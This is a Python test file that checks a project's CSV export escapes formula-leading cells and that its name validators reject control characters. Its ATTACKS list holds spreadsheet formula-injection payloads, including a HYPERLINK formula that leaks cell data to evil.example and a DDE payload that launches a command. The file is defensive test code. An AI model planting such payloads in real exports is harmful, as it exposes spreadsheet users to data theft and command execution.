"""P1: every CSV export defuses formula-leading cells through one writer; names refuse controls."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from quan.domain.citizens import parse_name
from quan.domain.csv_export import csv_text, safe_cell
from quan.domain.errors import QuanError
from quan.domain.merchants import check_name as merchant_name
from quan.domain.merchants import parse_bank_account
from quan.domain.names import check_name
from quan.domain.settlement import to_csv
from quan.domain.voucher_types import parse_voucher_type

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_leading_cell_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    parsed = next(csv.reader(io.StringIO(csv_text(None, [[text]]))))
    assert parsed == ["'" + text]


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    assert [safe_cell(v) for v in (-100, 0, 12.5, True, None, "王芳的店")] == [
        "-100", "0", "12.5", "true", "", "王芳的店"
    ]


def test_the_settlement_writer_is_the_same_writer() -> None:
    text = to_csv(("a", "b"), [{"a": ATTACKS[0], "b": -5}])
    assert text.splitlines()[1].startswith("\"'=HYPERLINK")


def test_no_csv_writer_outside_the_export_module() -> None:
    """The class of fault: a second writer would write names unescaped again."""
    src = Path(__file__).parents[2] / "src" / "quan"
    offenders = [
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if path.name != "csv_export.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


CONTROLS = ["王\t芳", "王芳\n", "\r=1+1", "王\u200b芳", "王\u202e芳", "a\x00b", "a\x1bb"]


@pytest.mark.parametrize("text", CONTROLS)
def test_every_name_check_refuses_control_characters(text: str) -> None:
    checks = [
        lambda: check_name(text),
        lambda: parse_name(text),
        lambda: merchant_name(text),
        lambda: parse_bank_account(text, "6222021234567890123"),
        lambda: parse_voucher_type({"name": text}),
    ]
    for check in checks:
        with pytest.raises(QuanError):
            check()


def test_a_name_keeps_its_spaces_collapsed() -> None:
    assert check_name("  杭州   市财政局 ") == "杭州 市财政局"
